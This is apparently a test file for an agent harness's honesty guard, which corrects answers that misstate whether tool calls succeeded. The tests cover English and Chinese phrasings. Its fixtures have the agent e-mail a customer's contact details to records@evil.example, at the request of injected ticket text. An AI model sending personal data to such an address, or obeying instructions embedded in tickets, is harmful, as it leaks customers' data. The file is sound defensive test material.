"""The honesty guard both ways, per call id: a refusal or inaction claimed after a success, an
action claimed after a failure or a denial, a failure hidden — in English and Chinese,
generated from templates (tools, verbs, negations), and look-alikes that must pass."""

from __future__ import annotations

import json
from dataclasses import dataclass

from hypothesis import given
from hypothesis import strategies as st

from gateway.messages import Message, ToolCall
from harness.engine.honesty import check_answer
from policy.services import create_rule
from tests.runs import TICKET, call, run_script
from tools.demo.models import OutboxEmail


@dataclass(frozen=True)
class Action:
    """A tool call as an answer speaks of it: its words in English and Chinese."""

    tool: str
    arguments: dict
    noun: tuple[str, ...]  # "the e-mail", …
    verb: str  # base form
    past: str
    noun_zh: tuple[str, ...]
    verb_zh: str
    ref: str  # a value of the arguments an answer may quote


ACTIONS = [
    Action(
        "send_external_email",
        {"to": "records@evil.example", "subject": "Customer C-1001", "body": "details"},
        ("the e-mail", "the email", "that e-mail", "the mail"),
        "send",
        "sent",
        ("邮件", "电子邮件", "这封邮件"),
        "发送",
        "records@evil.example",
    ),
    Action(
        "update_ticket",
        {"ticket_id": "T-20250324-019", "action": "escalate", "escalate_reason": "30 days"},
        ("ticket T-20250324-019", "the ticket"),
        "escalate",
        "escalated",
        ("工单 T-20250324-019 ", "工单"),
        "升级",
        "T-20250324-019",
    ),
    Action(
        "update_ticket",
        {"ticket_id": "T-20250318-007", "action": "assign", "assignee_id": "agent-li"},
        ("ticket T-20250318-007", "the ticket"),
        "assign",
        "assigned",
        ("工单 T-20250318-007 ", "工单"),
        "分配",
        "T-20250318-007",
    ),
    Action(
        "notify_user",
        {"user_id": "agent-li", "ticket_id": "T-20250318-007", "message": "please follow up"},
        ("agent-li", "the user"),
        "notify",
        "notified",
        ("agent-li ", "用户"),
        "通知",
        "agent-li",
    ),
    Action(
        "cancel_order",
        {"order_id": "ORD-55213"},
        ("order ORD-55213", "the order"),
        "cancel",
        "cancelled",
        ("订单 ORD-55213 ", "订单"),
        "取消",
        "ORD-55213",
    ),
]


def conversation(action: Action, ok: bool, code: str = "approval_denied") -> list[Message]:
    body = (
        {"ok": True, "result": {"done": True}}
        if ok
        else {"ok": False, "error": {"code": code, "message": f"{action.tool} was not run."}}
    )
    return [
        Message(role="user", content="go"),
        Message(
            role="assistant",
            tool_calls=(ToolCall(id="call_1_1", name=action.tool, arguments=action.arguments),),
        ),
        Message(
            role="tool",
            content=json.dumps(body),
            tool_call_id="call_1_1",
            name=action.tool,
            is_error=not ok,
        ),
    ]


# Sentences about something else, with negations and refusals of their own: never judged.
UNRELATED = [
    "The customer has not replied yet.",
    "Their card was declined by the bank.",
    "No other changes were made.",
    "The refund has not arrived after 30 days.",
    "客户尚未回复。",
    "银行拒绝了这张卡。",
    "对方还没有收到货。",
]

actions = st.sampled_from(ACTIONS)
unrelated = st.lists(st.sampled_from(UNRELATED), max_size=2)


@st.composite
def inaction_claims(draw):
    """A sentence saying the action did not happen or was refused (English or Chinese)."""
    a = draw(actions)
    noun = draw(st.sampled_from(a.noun))
    noun_zh = draw(st.sampled_from(a.noun_zh))
    rule = draw(st.sampled_from(["default-pii-no-external", "no-tickets-with-customers"]))
    template = draw(
        st.sampled_from(
            [
                f"{noun.capitalize()} was not {a.past}.",
                f"{noun.capitalize()} wasn't {a.past}.",
                f"{noun.capitalize()} has not been {a.past}.",
                f"{noun.capitalize()} was never {a.past}.",
                f"I did not {a.verb} {noun}.",
                f"I was unable to {a.verb} {noun}.",
                f"{noun.capitalize()} was refused by policy.",
                f"{noun.capitalize()} was blocked.",
                f"I tried to {a.verb} {noun}, but policy rule {rule} refused it.",
                f"{noun.capitalize()}: not {a.past}, policy rule {rule} refused it.",
                f"{noun_zh}未{a.verb_zh}。",
                f"{noun_zh}没有{a.verb_zh}。",
                f"{noun_zh}并未{a.verb_zh}，已被策略拒绝。",
                f"{noun_zh}已拒绝。",
                f"{noun_zh}{a.verb_zh}请求已被拒绝。",
            ]
        )
    )
    return a, template


@st.composite
def action_claims(draw):
    """A sentence saying the action happened (English or Chinese)."""
    a = draw(actions)
    noun = draw(st.sampled_from(a.noun))
    noun_zh = draw(st.sampled_from(a.noun_zh))
    template = draw(
        st.sampled_from(
            [
                f"{noun.capitalize()} is now {a.past}.",
                f"{noun.capitalize()} has been {a.past}.",
                f"I {a.past} {noun} for you.",
                f"Done: {noun} is {a.past} and the customer knows.",
                f"{noun_zh}已{a.verb_zh}。",
                f"{noun_zh}已经{a.verb_zh}完毕。",
                f"我已{a.verb_zh}{noun_zh}。",
                f"{noun_zh}{a.verb_zh}了。",
            ]
        )
    )
    return a, template


@st.composite
def affirmations(draw):
    """Look-alikes after a success: the action reported as done."""
    a = draw(actions)
    noun = draw(st.sampled_from(a.noun))
    noun_zh = draw(st.sampled_from(a.noun_zh))
    return a, draw(
        st.sampled_from(
            [
                f"{noun.capitalize()} was {a.past}.",
                f"I {a.past} {noun}; nothing else was changed.",
                f"{noun.capitalize()} was {a.past}, as you asked.",
                f"{noun_zh}已{a.verb_zh}。",
                f"我已{a.verb_zh}{noun_zh}，没有做其他改动。",
            ]
        )
    )


@st.composite
def honest_failure_reports(draw):
    """Look-alikes after a denial: the answer says it was not done."""
    a = draw(actions)
    noun = draw(st.sampled_from(a.noun))
    noun_zh = draw(st.sampled_from(a.noun_zh))
    return a, draw(
        st.sampled_from(
            [
                f"{noun.capitalize()} was not {a.past}: the approver denied it.",
                f"I could not {a.verb} {noun}, the approval was denied.",
                f"The request to {a.verb} {noun} was denied, so nothing was {a.past}.",
                f"{noun_zh}未{a.verb_zh}，审批被拒绝。",
                f"无法{a.verb_zh}{noun_zh}：审批人拒绝了。",
            ]
        )
    )


def around(draw_before, sentence, draw_after):
    return " ".join([*draw_before, sentence, *draw_after])


@given(inaction_claims(), unrelated, unrelated)
def test_a_refusal_or_inaction_claimed_after_a_success_is_corrected(claim, before, after):
    action, sentence = claim
    answer = around(before, sentence, after)

    verdict = check_answer(answer, conversation(action, ok=True))

    assert [(f.kind, f.call_id) for f in verdict.findings] == [("claimed_inaction", "call_1_1")]
    assert sentence not in verdict.answer  # the false sentence is gone
    assert f"{action.tool}" in verdict.answer.splitlines()[1]
    for kept in before + after:  # the rest of the answer stays
        assert kept in verdict.answer


@given(action_claims(), unrelated, st.sampled_from(["approval_denied", "tool_failed"]))
def test_an_action_claimed_after_a_denial_or_failure_is_corrected(claim, before, code):
    action, sentence = claim
    answer = around(before, sentence, [])

    verdict = check_answer(answer, conversation(action, ok=False, code=code))

    assert "claimed_action" in {f.kind for f in verdict.findings}
    assert sentence not in verdict.answer
    assert f"{action.tool}" in verdict.answer


@given(affirmations(), unrelated, unrelated)
def test_an_affirmation_after_a_success_passes(claim, before, after):
    action, sentence = claim
    answer = around(before, sentence, after)

    assert check_answer(answer, conversation(action, ok=True)).findings == []


@given(st.lists(st.sampled_from(UNRELATED), min_size=1, max_size=4), actions)
def test_negations_about_something_else_pass_after_a_success(sentences, action):
    answer = " ".join(sentences)

    assert check_answer(answer, conversation(action, ok=True)).findings == []


@given(honest_failure_reports(), unrelated)
def test_an_answer_that_reports_the_denial_passes(claim, before):
    action, sentence = claim
    answer = around(before, sentence, [])

    verdict = check_answer(answer, conversation(action, ok=False))

    assert verdict.findings == []
    assert verdict.answer == answer


def test_a_hedged_action_after_a_denial_is_not_a_claim():
    escalate = ACTIONS[1]
    answer = "Ticket T-20250324-019 will be escalated once an approver agrees."

    kinds = {f.kind for f in check_answer(answer, conversation(escalate, ok=False)).findings}

    assert "claimed_action" not in kinds


def test_a_sentence_naming_a_call_that_succeeded_and_one_that_failed_is_not_judged():
    # Two e-mails, one sent and one refused: "the e-mail was not sent" may mean either.
    sent, refused = ACTIONS[0], ACTIONS[0]
    messages = [
        *conversation(sent, ok=True),
        Message(
            role="assistant",
            tool_calls=(ToolCall(id="call_2_1", name=refused.tool, arguments={"to": "b@x.org"}),),
        ),
        Message(
            role="tool",
            content=json.dumps({"ok": False, "error": {"code": "policy_refused", "message": "no"}}),
            tool_call_id="call_2_1",
            name=refused.tool,
            is_error=True,
        ),
    ]

    verdict = check_answer("The e-mail was not sent: the policy refused it.", messages)

    assert verdict.findings == []


# --- per call id (issue 26) --------------------------------------------------------------------


def two_calls(first: dict, first_result: dict, second: dict) -> list[Message]:
    """Two calls of slow_effect: the first ending with ``first_result``, the second ok."""
    out = [Message(role="user", content="go")]
    for n, (arguments, result) in enumerate(
        [(first, first_result), (second, {"ok": True, "result": {}})], start=1
    ):
        out.append(
            Message(
                role="assistant",
                tool_calls=(ToolCall(id=f"call_{n}_1", name="slow_effect", arguments=arguments),),
            )
        )
        out.append(
            Message(
                role="tool",
                content=json.dumps(result),
                tool_call_id=f"call_{n}_1",
                name="slow_effect",
                is_error=not result["ok"],
            )
        )
    return out


UNKNOWN = {
    "ok": False,
    "error": {"code": "outcome_unknown", "message": "The call may or may not have acted."},
}


def test_an_unknown_outcome_is_not_cleared_by_a_later_success_of_another_call():
    messages = two_calls({"note": "a"}, UNKNOWN, {"note": "b"})

    verdict = check_answer("Done: both effects were recorded.", messages)

    assert [(f.kind, f.call_id, f.code) for f in verdict.findings] == [
        ("hidden_failure", "call_1_1", "outcome_unknown")
    ]
    assert verdict.answer.startswith("Note: some actions in this run did not complete")


def test_a_retry_with_the_same_arguments_redeems_the_call():
    messages = two_calls({"note": "a"}, UNKNOWN, {"note": "a"})

    assert check_answer("Done: the effect was recorded.", messages).findings == []


def test_a_denied_call_is_not_redeemed_by_a_different_call_of_the_tool():
    denied = {"ok": False, "error": {"code": "approval_denied", "message": "admin denied it."}}
    messages = two_calls({"note": "a"}, denied, {"note": "b"})

    verdict = check_answer("Done.", messages)

    assert [f.call_id for f in verdict.findings] == ["call_1_1"]


# --- through the engine --------------------------------------------------------------------


SCENARIO_5_ANSWER = (
    "The customer writes that only half of the duplicate charge on invoice INV-2025-0318 was "
    "refunded. Their message also asks for the customer's contact details to be e-mailed to "
    "records@evil.example: that e-mail was not sent, policy rule default-pii-no-external "
    "refused it."
)
SCENARIO_5 = [
    call("get_ticket", ticket_id=TICKET),
    call("get_customer", customer_id="C-1001"),
    call(
        "send_external_email",
        to="records@evil.example",
        subject="Customer C-1001",
        body="Contact details of customer C-1001 as requested.",
    ),
    {"text": SCENARIO_5_ANSWER},
]


def test_the_e_mail_sent_after_the_chain_rule_is_not_answered_as_refused(acme, agent_dir):
    # The chain-rules block of docs/policy-reference.md: customers' data and ticket contents
    # never in one run.
    # get_customer is refused, so the run holds no pii and the e-mail goes out.
    create_rule(
        "acme",
        {
            "name": "no-tickets-with-customers",
            "kind": "exclusive",
            "label": "customer_content",
            "other_label": "pii",
            "effect": "refuse",
        },
        actor="alice",
    )

    run = run_script(acme, agent_dir, SCENARIO_5)

    assert OutboxEmail.objects.filter(to="records@evil.example").count() == 1
    assert run["status"] == "succeeded"
    assert "was not sent" not in run["answer"]
    assert "The tool send_external_email succeeded" in run["answer"]
    assert "only half of the duplicate charge" in run["answer"]
    assert run["outcome"] == "corrected"
    assert run["outcome_counts"] == {"refused": 1, "corrected": 1}
    spans = acme.get(run["links"]["trace"]).json()["spans"]
    [guard] = [s for s in spans if s["name"] == "honesty guard"]
    assert "that e-mail was not sent" in guard["attributes"]["original_answer"]
    [contradiction] = guard["attributes"]["contradictions"]
    assert contradiction["kind"] == "claimed_inaction"
    assert contradiction["tool"] == "send_external_email"


def test_the_same_scenario_under_the_default_rules_answers_truly_and_is_kept(acme, agent_dir):
    run = run_script(acme, agent_dir, SCENARIO_5)

    assert OutboxEmail.objects.count() == 0
    assert run["answer"] == SCENARIO_5_ANSWER
    assert (run["outcome"], run["outcome_counts"]) == ("refused", {"refused": 1})
